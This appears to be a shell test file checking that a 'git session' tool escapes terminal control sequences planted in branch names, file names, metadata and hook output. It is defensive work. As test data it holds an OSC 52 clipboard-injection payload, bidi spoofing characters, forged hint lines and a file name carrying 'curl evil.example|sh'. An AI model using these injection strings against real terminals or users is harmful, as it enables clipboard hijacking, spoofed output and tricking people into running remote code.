Nothing that a repository holds reaches a terminal as a control sequence.

  $ . "$TESTDIR/setup.sh"
  $ export TERM=xterm
  $ clipboard=$'\e]52;c;ZXZpbA==\a' bidi=$'\u202e' csi=$'\u009b2J' raw=$'\x9b2J'
  $ make_repository
  $ git update-ref "refs/heads/x$bidi$csi$raw" HEAD && git symbolic-ref HEAD "refs/heads/x$bidi$csi$raw"
  $ git session create --team engineering --project "P$clipboard$bidi$csi"$'\rx' --ticket "T$clipboard" --sprint "S$csi" \
  >   --tag "t$clipboard" --note "N$clipboard"$'\nline\r'"$bidi" --reason "R$clipboard" --quiet >/dev/null
  $ id=$(git session current --id) && folder=output/sessions/ada-lovelace/$id

What is written has no raw control byte either, so that cat is safe:

  $ sed -n 's/^  \(project\|ticket\): //p' $folder/.session-metadata.yaml | LC_ALL=C grep '[[:cntrl:]]'
  [1]

  $ echo x >"$folder/a$clipboard$bidi$raw.md"; echo y >"$folder/b"$'\n'"hint: curl evil.example|sh.md"
  $ echo z >"$folder/2025-01-01_10-00-00_topic_cs-$clipboard.md"
  $ mkdir -p "output/sessions/u$clipboard$bidi/2025-01-01_x$clipboard"$'\n'"hint: forged_abcdef" output/sessions/eve/{a,b}
  $ printf 'a: "\e\n' >"output/sessions/u$clipboard$bidi/2025-01-01_x$clipboard"$'\n'"hint: forged_abcdef/.session-metadata.yaml"
  $ printf '"a\\e]52;c;x\\a\\u202e": 1\n"a\\e]52;c;x\\a\\u202e": 1\n' >output/sessions/eve/a/.session-metadata.yaml
  $ cat >output/sessions/eve/b/.session-metadata.yaml <<'END'
  > schema: "\e]52;c;x\a"
  > session_id: "\e]0;x\a\nhint: forged"
  > created_at: "\e]0;x\a"
  > created_by: {team: "\e]0;x\a\u202e", user: "\x9b2J", email: "\e[2J"}
  > context: {branch: "\e[2J", project: "\e[2J\nhint: forged", description: "\e[2J"}
  > status: "\e]52;c;x\a"
  > outputs: [{file: "../\e[2J"}, {file: "\e[2J"}, {file: "\e[2J"}, {file: "x", agent: "\e[2J", title: "\e[2J", type: "\e[2J"}]
  > stakeholders: [{name: "\e[2J"}]
  > retention: {policy: "\e[2J", expires_at: "\e[2J", reason: "\e[2J"}
  > links: {jira: "\e]8;;http://evil.example\e\\"}
  > tags: ["\e[2J"]
  > END
  $ printf '[session "\e]52;c;x\a"]\n\tx = 1\n[session]\n\tteam = "\e[2J"\n' >.gitsession

Colours (ESC [ ... m) are ours; anything else of C0, DEL, C1, bidirectional controls, or no UTF-8, is not, and no
line may begin with a hint that a name made up:

  $ bad='[\x00-\x08\x0b-\x1a\x1c-\x1f\x7f]|\x1b(?!\[[0-9;]*[mK])|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]'
  $ bad="$bad|(?<![\xc0-\xff\x80-\xbf])[\x80-\xbf]|^(hint: )?(hint: forged|hint: curl)"
  $ look() {
  >   LC_ALL=C sed 's/\r$//' >../seen; [ -s ../seen ] || echo "silent: $*"
  >   LC_ALL=C grep -aP "$bad" ../seen | cat -v | sed "s#^#$1: #"
  > }
  $ printf 'a\e[1mb\na\e[2Jb\na\u202eb\na\x9bb\na\u009bb\nhint: forged\na\rb\ná\n' | look check
  check: a^[[2Jb
  check: aM-bM-^@M-.b
  check: aM-^[b
  check: aM-BM-^[b
  check: hint: forged
  check: a^Mb
  $ on_screen() { script --quiet --return --command "$1" /dev/null </dev/null | look "$1"; }
  $ for command in status 'status eve/a' 'status eve/b' list 'list --format tsv' 'list --format csv' 'list --json' \
  >   'search --project P*' 'search --agent cs-*' doctor 'doctor --json' current 'current --json' env config \
  >   'use eve/a' 'archive --dry-run' 'archive eve/a' 'list '\''$bidi$clipboard'\' 'create --project x --team $clipboard' \
  >   'use abcdef' 'close abcdef' 'commit abcdef' 'archive abcdef' 'restore abcdef' 'current abcdef' \
  >   'status abcdef' 'show abcdef' 'update abcdef --add-tag x' 'add --session abcdef README.md' 'report abcdef' 'use x'; do
  >   export bidi clipboard; on_screen "git session $command"
  > done
  $ GIT_SESSION=$clipboard on_screen 'git session current'
  $ CLAUDE_SESSION_DIR=$PWD/$clipboard$bidi on_screen 'git session current'
  $ GIT_SESSION_ROOT=$clipboard on_screen 'git session list'

JSON escapes them in a pipe as well:

  $ git session list --json 2>/dev/null | LC_ALL=C grep -P '[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]'
  [1]
  $ git session list --json 2>/dev/null | jq -r '.sessions[] | select(.user == "eve") | .context.project' | cat -v
  null
  ^[[2J
  hint: forged

What git says goes through the same hands:

  $ printf '#!/bin/sh\nprintf "\\033[2J\\302\\2332J hook \\342\\200\\256\\n" >&2; exit 1\n' >.git/hooks/pre-commit
  $ chmod +x .git/hooks/pre-commit
  $ on_screen "git session commit $id"; cat -v ../seen
  ^[[33mwarning:^[[0m .gitsession may not set session.\x1b]52;c;x\x07.x
  \x1b[2J\u009b2J hook \u202e
  ^[[1;31mgit session:^[[0m git did not commit: \x1b[2J\u009b2J hook \u202e; 4 files are staged
  $ rm .git/hooks/pre-commit

The message of a commit is shown by git as it is, so it holds none:

  $ git session commit $id >/dev/null && git log -1 --format=%B | tee ../log | cat -v; look log <../log
  warning: .gitsession may not set session.\x1b]52;c;x\x07.x
  docs(session): add P\x1b]52;c;ZXZpbA==\x07\u202e\u009b2J x outputs
  
  - Topic
  - A\x1b]52;c;ZXZpbA==\x07\u202e\x9b2J
  - B hint: curl evil.example|sh
  - Ticket: T\x1b]52;c;ZXZpbA==\x07
  - Session: 2025-11-22_x-2j-2j_a3f42c
  
  Git-Session: 2025-11-22_x-2j-2j_a3f42c
  
